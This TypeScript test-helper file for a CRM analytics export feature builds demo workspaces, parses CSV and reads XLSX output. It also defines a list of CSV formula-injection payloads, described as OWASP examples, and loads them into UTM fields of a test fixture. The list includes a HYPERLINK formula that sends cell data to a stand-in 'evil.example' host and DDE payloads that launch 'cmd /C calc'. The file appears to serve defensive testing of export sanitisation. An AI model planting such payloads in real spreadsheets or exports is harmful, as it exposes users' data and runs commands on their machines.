// Shared pieces of the export tests: a small demo workspace made once per file, an RFC 4180
// parser (independent of the writer), and a hostile workspace whose CRM UTM values are formulas.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { ExportFinished, ExportRunInput } from '@shared/contract';
import { Engine } from '../../src-main/engine/engine';
import { MemorySecrets } from '../../src-main/engine/secrets';
import { createDemoWorkspace } from '../../src-main/engine/demo/workspace';
import { Fixture, msk } from '../reports/fixture';

export const NOW = Date.parse('2026-11-22T08:00:00Z');

export async function smallDemo(now = NOW): Promise<{ dir: string; engine: Engine; events: { event: string; payload: unknown }[] }> {
  const dir = join(mkdtempSync(join(tmpdir(), 'skvoz-export-')), 'ws');
  const { ws } = await createDemoWorkspace(dir, { name: 'Демо-данные', size: 'small', seed: 1, now });
  ws.close();
  const events: { event: string; payload: unknown }[] = [];
  const engine = new Engine({ workspaceDir: dir, secrets: new MemorySecrets(), now: () => now, emit: (event, payload) => events.push({ event, payload }) });
  return { dir, engine, events };
}

export function outDir(): string {
  return mkdtempSync(join(tmpdir(), 'skvoz-export-out-'));
}

export async function ok<T>(p: Promise<{ ok: boolean; value?: unknown; error?: unknown }>): Promise<T> {
  const r = await p;
  if (!r.ok) throw new Error(JSON.stringify(r.error));
  return r.value as T;
}

/** export:run through the contract, then the job's finished event. */
export async function exportFile(engine: Engine, input: ExportRunInput): Promise<ExportFinished> {
  const { jobId } = await ok<{ jobId: string }>(engine.dispatch('export:run', input));
  return engine.exports.wait(jobId);
}

export async function readXlsx(path: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return wb;
}

/** RFC 4180: fields separated by `d`, quoted fields may hold `d`, quotes ("") and line breaks. */
export function parseCsv(text: string, d = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === d) {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
    i++;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/** Values a CRM could send in UTM fields (OWASP CSV injection examples). */
export const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+2;=3'];

/** A workspace whose leads carry hostile UTM campaigns (and sources), with costs above revenue (negative ROMI). */
export function hostileFixture(): Fixture {
  const f = new Fixture();
  HOSTILE.forEach((campaign, i) => {
    const at = msk('2026-03-10', `1${i}:00:00`);
    f.lead(i + 1, at, { utm: ['yandex', 'cpc', campaign] });
    f.deal(i + 1, at + 3_600_000, { leadId: i + 1, wonAt: at + 7_200_000, amount: `${(i + 1) * 1000}.50`, utm: ['yandex', 'cpc', campaign] });
    f.cost('2026-03-10', 'yandex', 'cpc', campaign, 10_000);
  });
  f.lead(99, msk('2026-03-11'), { utm: ['@evil', '+medium'] });
  return f;
}
